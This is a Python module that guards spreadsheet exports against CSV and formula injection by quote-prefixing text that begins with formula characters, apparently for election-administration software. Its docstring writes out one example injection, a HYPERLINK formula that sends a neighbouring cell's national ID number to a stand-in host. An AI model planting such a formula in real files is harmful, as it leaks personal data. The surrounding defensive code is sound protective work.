"""Cells for the spreadsheets that open our CSV and XLSX exports: text never runs as a formula.

To Excel, LibreOffice and Google Sheets a cell whose text begins with ``= + - @``, a tab or a
carriage return is a formula (or the start of one). A name imported from Sidalih or typed on a
laptop as ``=HYPERLINK("http://x/?"&B9,"Klik")`` would, in the file a KPU operator opens, send a
neighbouring cell (a NIK) to that address on one click. OWASP's rule against CSV injection:
prefix such text with a single quote, which a spreadsheet shows as text and never evaluates.

Only text is touched: a number the program itself writes (a count, a version, a seq) stays a
number, so ``-3`` as an int is a number and ``"-3"`` as a string is text to neutralise. A phone
number typed as ``+62…`` is text and comes out ``'+62…``, as OWASP's rule wants; a spreadsheet
would otherwise turn it into 6.28E+12.

Every CSV and XLSX writer of the desk and the server goes through this module. It is pure Python
(no Qt, no database; openpyxl only inside ``xlsx_cells``) so the server can import it."""

from __future__ import annotations

import decimal
import math
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

# OWASP "CSV Injection": the characters a spreadsheet reads as the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# XML 1.0 cannot hold these control characters; openpyxl refuses the whole workbook over one
# (with the cell's text, a name, in its error message).
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_REPLACEMENT = "\ufffd"

Number = int | float | decimal.Decimal


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet will show it and never evaluate: a quote in front of text that
    begins like a formula, anything else unchanged."""
    return QUOTE + text if text.startswith(FORMULA_START) else text


def is_number(value: object) -> bool:
    """Whether ``value`` is a finite number the program holds as one (not text that looks like
    a number): only these reach a spreadsheet unneutralised."""
    if isinstance(value, bool):
        return False
    if isinstance(value, int):
        return True
    if isinstance(value, float):
        return math.isfinite(value)
    if isinstance(value, decimal.Decimal):
        return value.is_finite()
    return False


def csv_cell(value: object) -> str | Number:
    """One CSV cell: nothing for None, a finite number as it is, anything else as neutralised
    text."""
    if value is None:
        return ""
    if isinstance(value, int | float | decimal.Decimal) and is_number(value):
        return value
    return neutralise(str(value))


def csv_row(values: Iterable[object]) -> list[str | Number]:
    return [csv_cell(v) for v in values]


def xlsx_text(value: object) -> str:
    """Text for an XLSX string cell: neutralised, with the control characters XML cannot hold
    replaced by U+FFFD."""
    return neutralise(_NOT_IN_XML.sub(_REPLACEMENT, str(value)))


def xlsx_cells(sheet: Worksheet, values: Iterable[object]) -> list[Cell]:
    """Cells for ``sheet.append``: a finite number as a number cell, None as an empty cell, any
    other value as a string cell (type ``s``) of neutralised text — never a formula (``f``) or
    an error value (``e``, which openpyxl makes of a name like ``#N/A``)."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        if value is None or is_number(value):
            cells.append(Cell(sheet, value=value))
            continue
        cell = Cell(sheet, value=xlsx_text(value))
        cell.data_type = "s"  # openpyxl guesses from the text; a string cell is never evaluated
        cells.append(cell)
    return cells
